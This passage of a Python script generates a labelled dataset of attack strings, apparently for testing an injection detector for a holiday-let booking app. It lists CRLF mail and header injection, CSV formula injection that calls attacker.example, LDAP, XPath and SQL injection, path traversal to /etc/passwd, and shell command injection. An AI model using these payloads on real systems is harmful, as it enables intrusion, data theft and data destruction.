    "SH-1187\r\nAUDIT refund=OK amount=540 by=claire",
    "jen%0d%0a%0d%0a== audit log cleared ==",
])
add("crlf", "crlf-mail", [
    "guest@example.com\r\nBcc: list@attacker.example",
    "Booking confirmation\nCc: everyone@attacker.example\nSubject: Update your payout bank details",
    "sam@example.com%0ABcc:%20spam@attacker.example",
    "Curlew review\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay deposit</a>",
    "owner@example.com\nReply-To: payouts@attacker.example",
    "Claire%0d%0aTo:%20victims@attacker.example",
    "Your stay\r\nX-Mailer: x\r\nBcc: 198.51.100.2@attacker.example",
    "newsletter@example.com\r\n\r\n.\r\nMAIL FROM:<x@attacker.example>\r\nRCPT TO:<y@attacker.example>",
])
add("crlf", "crlf-csv-row", [
    "Great hut\"\n\"SH-9999\",\"Attacker\",\"=HYPERLINK(\"\"https://attacker.example\"\")\"",
    "O'Neill\r\nSH-0000,Owner Payout,9999.00,GB00ATTK00000000000000",
    "heron\",\"0\"\n\"kestrel\",\"=cmd|' /C calc'!A0",
    "Notes;ok\n2024-06-01;Curlew;=WEBSERVICE(\"http://attacker.example/\"&A1)",
    "wren\r\n,,,,\"@SUM(1+1)*cmd|'/c id'!A1\"",
    "tidy\n\"4\",\"Payout\",\"-5000.00\",\"approved\"",
])

# ---------------------------------------------------------------- ldap-xpath
add("ldap-xpath", "ldap-injection", [
    "*)(uid=*))(|(uid=*",
    "claire)(|(objectClass=*)",
    "admin*)((|userPassword=*)",
    "tom)(&(objectClass=user)(memberOf=cn=owners,dc=shepherdsrest,dc=example))",
    "*)(cn=*))%00",
    "jen\\2a)(mail=*",
    "housekeeping)(!(cn=",
    "x*)(|(description=*secret*)",
    "*)(|(userPassword=a*)",
    "owner)(|(ou=*",
])
add("ldap-xpath", "xpath-injection", [
    "' or '1'='1",
    "Curlew' or count(//owner)>0 or 'a'='b",
    "x' or name(/*)='bookings' or 'x'='y",
    "'] | //owner/password | //*['",
    "heron' and substring(//owner[1]/iban,1,2)='GB' and '1'='1",
    "1 or 1=1]/parent::*/child::node()",
    "') or contains(//user/password,'a') or ('",
    "wren\" or string-length(//payout[1]/account)>5 or \"",
    "doc('http://attacker.example/x.xml')",
    "']/..//*[contains(.,'pass')]|a['",
])

# ---------------------------------------------------------------- templated (<10%)
PREFIXES = {
    "sqli": ["Curlew", "SH-2024-0412", "Heron 14 june", "o'brien", "dog friendly"],
    "traversal": ["photos/curlew/", "invoices/2024/", "guides/", "ical/heron/"],
    "cmdi": ["curlew.jpg", "statement-q3.pdf", "heron.ics", "bookings.csv"],
}
POOLS = {
    "sqli": ["' union select iban,sort_code from owner_bank_details-- -", "' and sleep(8)-- -",
             "' or 3=3-- -", "'; drop table payouts;--", "' and 1=cast(version() as int)--"],
    "traversal": ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//etc/hosts",
                  "..\\..\\..\\windows\\win.ini"],
    "cmdi": [";id", "|cat /etc/passwd", "$(whoami)", "&&sleep 9", "`uname -a`"],
}
TEMPLATED_N = {"sqli": 2, "traversal": 0, "cmdi": 2}
URLENC = {
    "sqli": ["heron' or 1=1-- -", "1' union select password from staff-- -"],
    "traversal": ["../../../etc/passwd", "..\\..\\..\\windows\\win.ini"],
}


def pct_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    benign = set()
    bpath = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bpath):
        with open(bpath, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    literal_count = len(A)
    rows = list(A)
    seen = set(v for _, _, v in rows)
    extra = []
    for cat in sorted(TEMPLATED_N):
        n = 0
        while n < TEMPLATED_N[cat]:
            v = rng.choice(PREFIXES[cat]) + rng.choice(POOLS[cat])
            if v in seen:
                continue
            seen.add(v)
            cls = {"sqli": "sqli-prefixed", "traversal": "traversal-prefixed", "cmdi": "cmdi-prefixed"}[cat]
            extra.append((cat, cls, v))
            n += 1
    for cat in sorted(URLENC):
        for p in URLENC[cat]:
            v = pct_all(p)
            assert v not in seen
            seen.add(v)
            extra.append((cat, cat + "-raw+urlencode", v))
    rows += extra
    order = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]
    rows.sort(key=lambda r: order.index(r[0]))  # stable: keeps hand order within a category
    vals = [v for _, _, v in rows]
    assert len(set(vals)) == len(vals), [v for v in vals if vals.count(v) > 1]
    for v in vals:
        assert 1 <= len(v) <= 2000, v
        assert v not in benign, v
        for ch in v:
            assert ch in "\n\r\t" or ord(ch) >= 32, repr(v)
    path = os.path.join(HERE, "attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "hajm-%05d" % i, "category": cat, "class": cls, "label": "attack",
                                "value": v}, ensure_ascii=False) + "\n")
    print("wrote", len(rows), "literals", literal_count, "generated", len(extra), path)


if __name__ == "__main__":
    main()
